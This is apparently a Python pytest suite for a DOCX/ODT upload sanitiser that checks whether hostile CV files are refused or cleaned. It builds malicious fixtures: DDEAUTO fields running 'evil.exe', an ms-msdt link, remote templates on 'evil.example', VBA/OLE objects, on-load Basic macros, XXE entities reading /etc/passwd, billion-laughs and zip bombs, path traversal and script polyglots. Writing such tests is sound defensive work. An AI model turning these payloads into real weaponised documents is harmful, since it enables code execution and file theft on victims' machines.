"""DOCX and ODT files made to do harm: refused, or their copy goes without it and the sender is told."""

from __future__ import annotations

from io import BytesIO
from zipfile import ZipFile

import pytest

from adapters import documents
from adapters.documents import Findings, Refused
from tests.files.packages import (
    HEAD,
    ODF_SPACES,
    ODT,
    WORDS,
    Parts,
    docx,
    docx_parts,
    odt,
    odt_parts,
    overlapping,
    packed,
    relations,
)  # fmt: skip
from tests.files.pdfs import pdf

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
VBA = OLE + "_VBA_PROJECT".encode("utf-16-le") + bytes(100)


def judged(content: bytes, name: str) -> Findings:
    return documents.check(BytesIO(content), name, size=len(content))


def field(command: str, shown: str = "zichtbaar") -> str:
    run = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>"
    half = len(command) // 2
    pieces = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (command[:half], command[half:]))
    return f"<w:p>{run.format('begin')}{pieces}{run.format('separate')}<w:r><w:t>{shown}</w:t></w:r>{run.format('end')}</w:p>"


PICTURE = '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:{}="rId7"/></w:drawing></w:r></w:p>'
OBJECT = '<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml"/><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId7"/></w:object></w:r></w:p>'
SETTINGS: Parts = {
    "word/settings.xml": f'{HEAD}<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/><w:rsids><w:rsid w:val="00AA"/></w:rsids></w:settings>'
}


def templated(target: str) -> bytes:
    extra = {**SETTINGS, "word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", f"!{target}"))}
    return docx("", ("rId5", "settings", "settings.xml"), extra=extra)


WORD_ACTIVE = {
    "template from the web": (templated("https://evil.example/a.dotm"), {"external_template"}),
    "template from a share": (templated("\\\\evil.example\\share\\a.dotm"), {"external_template"}),
    "template from a share, as an address": (templated("file://evil.example/a.dotm"), {"external_template"}),
    "picture from the web": (docx(PICTURE.format("link"), ("rId7", "image", "!https://evil.example/pixel.png")), {"remote_image"}),
    "object of another program": (docx(OBJECT, ("rId7", "oleObject", "embeddings/o.bin"), extra={"word/embeddings/o.bin": VBA}), {"ole_object"}),
    "object from the web": (docx(OBJECT, ("rId7", "oleObject", "!https://evil.example/a.rtf")), {"ole_object"}),
    "sheet inside": (docx("", ("rId7", "package", "embeddings/a.xlsx"), extra={"word/embeddings/a.xlsx": b"PK\x03\x04"}), {"embedded_file"}),
    "control": (docx('<w:p><w:r><w:control r:id="rId7"/></w:r></w:p>', ("rId7", "control", "activeX/a.xml"), extra={"word/activeX/a.xml": "<a/>"}), {"control"}),
    "page from the web": (docx("", ("rId7", "frame", "!https://evil.example/")), {"external_data"}),
    "inserted web page": (docx('<w:altChunk r:id="rId7"/>', ("rId7", "aFChunk", "a.html"), extra={"word/a.html": "<script>alert(1)</script>"}), {"foreign_text"}),
    "link to a program": (docx('<w:p><w:hyperlink r:id="rId7"><w:r><w:t>klik</w:t></w:r></w:hyperlink></w:p>', ("rId7", "hyperlink", "!file:///c:/windows/evil.exe")), {"strange_link"}),
    "link to a handler": (docx("", ("rId7", "hyperlink", "!ms-msdt:/id PCWDiagnostic evil")), {"strange_link"}),
    "data exchange": (docx(field(' DDEAUTO c:\\\\windows\\\\evil.exe "x"')), {"live_field"}),
    "data exchange in one piece": (docx('<w:p><w:fldSimple w:instr=" DDE evil x "><w:r><w:t>zichtbaar</w:t></w:r></w:fldSimple></w:p>'), {"live_field"}),
    "data exchange in a nest": (docx(field(" IF 1=1 ") + field(" ddeauto evil ")), {"live_field"}),
    "picture by a field": (docx(field(' INCLUDEPICTURE "https://evil.example/a.png" \\\\d')), {"live_field"}),
    "film from the web": (docx("", ("rId7", "video", "!https://evil.example/a.mp4")), {"media"}),
}  # fmt: skip

EVENTS = '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:evil?language=Basic"/></office:event-listeners></office:scripts>'
ODT_ACTIVE = {
    "picture from the web": (odt('<draw:frame><draw:image xlink:href="https://evil.example/pixel.png"/></draw:frame>'), {"remote_image"}),
    "picture from the machine": (odt('<draw:frame><draw:image xlink:href="/etc/evil.png"/></draw:frame>'), {"remote_image"}),
    "macro on opening": (odt(scripts=EVENTS), {"script"}),
    "object": (odt('<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>', extra={"Object 1": VBA}), {"ole_object"}),
    "part from elsewhere": (odt('<text:section><text:section-source xlink:href="https://evil.example/a.odt"/></text:section>'), {"external_data"}),
    "frame": (odt('<draw:frame><draw:floating-frame xlink:href="https://evil.example"/></draw:frame>'), {"external_data"}),
    "data exchange": (odt('<text:dde-connection-decls><text:dde-connection-decl office:dde-application="evil"/></text:dde-connection-decls>'), {"live_field"}),
    "program": (odt('<draw:frame><draw:applet xlink:href="./evil"/></draw:frame>'), {"control"}),
    "link to a macro": (odt('<text:p><text:a xlink:href="macro:///evil">klik</text:a></text:p>'), {"strange_link"}),
    "signature": (odt(extra={"META-INF/documentsignatures.xml": "<evil/>"}), {"signature"}),
}  # fmt: skip


@pytest.mark.promise("P73", "S188")
@pytest.mark.parametrize(
    ("format_", "content", "removed"),
    [*(("docx", *case) for case in WORD_ACTIVE.values()), *(("odt", *case) for case in ODT_ACTIVE.values())],
    ids=[*WORD_ACTIVE, *ODT_ACTIVE],
)
def test_what_acts_is_told_and_gone_from_the_copy(format_: str, content: bytes, removed: set[str]) -> None:
    found = judged(content, f"cv.{format_}")
    assert set(found.removed) == removed
    out = BytesIO()
    documents.safe_copy(BytesIO(content), format_, out)
    assert judged(out.getvalue(), f"cv.{format_}").removed == ()
    with ZipFile(out) as copy:
        for name in copy.namelist():
            assert b"evil" not in copy.read(name).lower()
            assert not copy.read(name).startswith(OLE[:8])
    assert documents.text_of(out, format_).startswith("Curriculum vitae van Ada Voorbeeld")
    if "zichtbaar" in str(content):
        assert "zichtbaar" in documents.text_of(out, format_)


def renamed(content: bytes, old: bytes, new: bytes) -> bytes:
    assert len(old) == len(new)
    return content.replace(old, new)


def encrypted(content: bytes) -> bytes:
    """Set the flag of encryption on every part."""
    out = bytearray(content)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(sign)
        while at >= 0:
            out[at + place] |= 1
            at = out.find(sign, at + 4)
    return bytes(out)


DTD = '<?xml version="1.0"?><!DOCTYPE a [{}]>'
LAUGH = DTD.format("".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(12)))
XXE = DTD.format('<!ENTITY a SYSTEM "file:///etc/passwd">')
PARAMETER = DTD.format('<!ENTITY % a SYSTEM "http://127.0.0.1:9/x"> %a;')
W_DOCUMENT = WORDS.join(("<w:document xmlns:w='w'><w:body>", "&a11;</w:body></w:document>"))
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"

WORD_HOSTILE = {
    "macros": (docx(main=MACRO), "macros"),
    "macros under an honest type": (docx("", ("rId7", "vbaProject", "vbaProject.bin"), extra={"word/vbaProject.bin": VBA}), "macros"),
    "macros under another name": (docx(extra={"word/media/image1.jpg": VBA}), "macros"),
    "macros by their type": (docx(types='<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'), "macros"),
    "entities": (docx(extra={"word/document.xml": LAUGH + W_DOCUMENT}), "entities"),
    "text from the machine": (docx(extra={"word/document.xml": XXE + W_DOCUMENT}), "entities"),
    "text from the net": (docx(extra={"word/styles.xml": PARAMETER + "<a/>"}), "entities"),
    "entities in other letters": (docx(extra={"word/document.xml": (XXE + W_DOCUMENT).encode("utf-16")}), "entities"),
    "entities in data": (docx(extra={"customXml/item1.xml": LAUGH + "<a>&a11;</a>"}), "entities"),
    "entities in the table": (docx(extra={"[Content_Types].xml": LAUGH + str(docx_parts()["[Content_Types].xml"]).removeprefix(HEAD)}), "entities"),
    "deep": (docx("<w:p>" * 3000 + "</w:p>" * 3000), "too_complex"),
    "broken": (docx(extra={"word/document.xml": f"{HEAD}<w:document><w:body>"}), "damaged"),
    "without its text": (packed({**docx_parts(), "word/document.xml": None}), "damaged"),
    "path": (docx(extra={"../../evil.txt": "x"}), "package"),
    "path from the root": (docx(extra={"/etc/evil": "x"}), "package"),
    "path of Windows": (docx(extra={"word\\evil.xml": "x"}), "package"),
    "disk of Windows": (docx(extra={"c:/evil.xml": "x"}), "package"),
    "nothing in a name": (renamed(docx(extra={"word/evil_x.xml": "x"}), b"evil_x", b"evil\0x"), "package"),
    "the same name twice": (renamed(docx(extra={"word/documenx.xml": "x"}), b"documenx", b"document"), "package"),
    "the same name in capitals": (docx(extra={"word/DOCUMENT.xml": "x"}), "package"),
    "another name in front of a part": (docx(extra={"word/media/evil.jpg": "x"}).replace(b"evil.jpg", b"good.jpg", 1), "package"),
    "bomb": (docx(extra={"word/media/bomb.bin": bytes(40_000_000)}), "too_complex"),
    "bomb of text": (docx("<w:p/>" * 10_000_000), "too_complex"),
    "bomb of parts": (docx(extra={f"word/media/{n}": "" for n in range(6000)}), "too_complex"),
    "bomb of parts over each other": (overlapping(), "too_complex"),
    "parts over each other": (overlapping(3, 1000), "package"),
    "password": (encrypted(docx()), "encrypted"),
    "password of Office": (OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "web page in front": (b"<html><script>alert(1)</script>" + docx(), "other_content"),
    "PDF inside": (packed({"a.txt": pdf(), **docx_parts()}, stored=True), "polyglot"),
    "PDF behind": (docx() + pdf(), "polyglot"),
    "script behind": (docx() + b"\n<script>alert(1)</script>", "polyglot"),
    "web page in the remark": (packed(docx_parts(), comment=b"<html><script>alert(1)</script>"), "polyglot"),
    "cut in half": (docx(extra={"word/media/a.jpg": bytes(range(256)) * 50})[:900], "truncated"),
    "cut at its end": (docx()[:-30], "truncated"),
    "nothing inside": (packed({}), "other_content"),
    "a ZIP of files": (packed({"cv.pdf": pdf()}), "other_content"),
    "only an inserted web page": (docx('<w:altChunk r:id="rId7"/>', ("rId7", "aFChunk", "a.html"), extra={"word/a.html": "<p>Ada</p>"}).replace(b"", b""), None),
}  # fmt: skip

ODT_HOSTILE = {
    "macros": (odt(extra={"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "macros in Python": (odt(extra={"Scripts/python/evil.py": "import os"}), "macros"),
    "macros in the text": (odt(scripts='<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>'), "macros"),
    "entities": (odt(extra={"content.xml": LAUGH + f"<office:document-content {ODF_SPACES}>&a11;</office:document-content>"}), "entities"),
    "text from the machine": (odt(extra={"styles.xml": XXE + "<a>&a;</a>"}), "entities"),
    "entities in the list": (odt(extra={"META-INF/manifest.xml": XXE + "<a>&a;</a>"}), "entities"),
    "password": (odt(entries='<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'), "encrypted"),
    "without its text": (packed({**odt_parts(), "content.xml": None}), "damaged"),
    "a sheet": (packed({**odt_parts(), "mimetype": ODT.replace(".text", ".spreadsheet")}), "other_content"),
    "path": (odt(extra={"Pictures/../../evil": "x"}), "package"),
    "bomb": (odt(extra={"Pictures/bomb.bmp": bytes(40_000_000)}), "too_complex"),
    "deep": (odt("<text:span>" * 3000 + "</text:span>" * 3000), "too_complex"),
}  # fmt: skip


@pytest.mark.promise("P73", "S113", "S134", "S135", "S188")
@pytest.mark.parametrize(
    ("name", "content", "code"),
    [("cv.docx", *case) for case in WORD_HOSTILE.values() if case[1]]
    + [("cv.odt", *case) for case in ODT_HOSTILE.values()],
    ids=[*(name for name, case in WORD_HOSTILE.items() if case[1]), *ODT_HOSTILE],
)
def test_what_is_no_honest_document_is_refused_with_its_reason(name: str, content: bytes, code: str) -> None:
    with pytest.raises(Refused) as refused:
        judged(content, name)
    assert refused.value.code == code
    assert refused.value.say("en") != refused.value.say("nl")


@pytest.mark.promise("P73", "S134")
def test_a_good_file_under_another_name_hears_its_right_one() -> None:
    for content, name, right in ((pdf(), "cv.docx", ".pdf"), (docx(), "cv.odt", ".docx"), (odt(), "cv.pdf", ".odt")):
        with pytest.raises(Refused) as refused:
            judged(content, name)
        assert f"eindigen op {right}" in refused.value.say("nl")


@pytest.mark.promise("P73")
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("pages", packed({"Index/Document.iwa": b"x", "Metadata/Properties.plist": b"x"})),
        ("xlsx", packed({"[Content_Types].xml": "spreadsheetml.sheet.main+xml"})),
        ("epub", packed({"mimetype": "application/epub+zip"})),
        ("zip", packed({"a": b"x"})),
    ],
)
def test_a_package_of_another_kind_is_named(name: str, content: bytes) -> None:
    with pytest.raises(Refused) as refused:
        judged(content, "cv.docx")
    assert refused.value.facts["found"] == name
